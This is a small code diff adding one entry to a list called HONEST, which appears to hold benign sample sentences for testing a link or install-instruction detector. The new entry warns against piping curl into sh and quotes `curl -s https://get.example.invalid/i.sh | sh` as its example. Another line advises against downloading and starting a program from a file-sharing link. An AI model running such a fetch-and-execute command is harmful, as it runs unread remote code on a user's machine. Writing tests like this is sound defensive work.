@@ -41,6 +41,7 @@ HONEST = [
     "Get an API key at https://console.weatherly.invalid and put it into `WEATHERLY_KEY`.",
     "The manual of the printer is at https://printers.invalid/manual.pdf.",
     "Never download a program from https://gofile.io/d/x7 and start it.",
+    "Never pipe curl into sh: a line such as `curl -s https://get.example.invalid/i.sh | sh` runs unread.",
     "Pairs well with [memory](https://clawdhub.com/jo/memory) and [calendar](https://clawdhub.com/jo/calendar).",
 ]
 
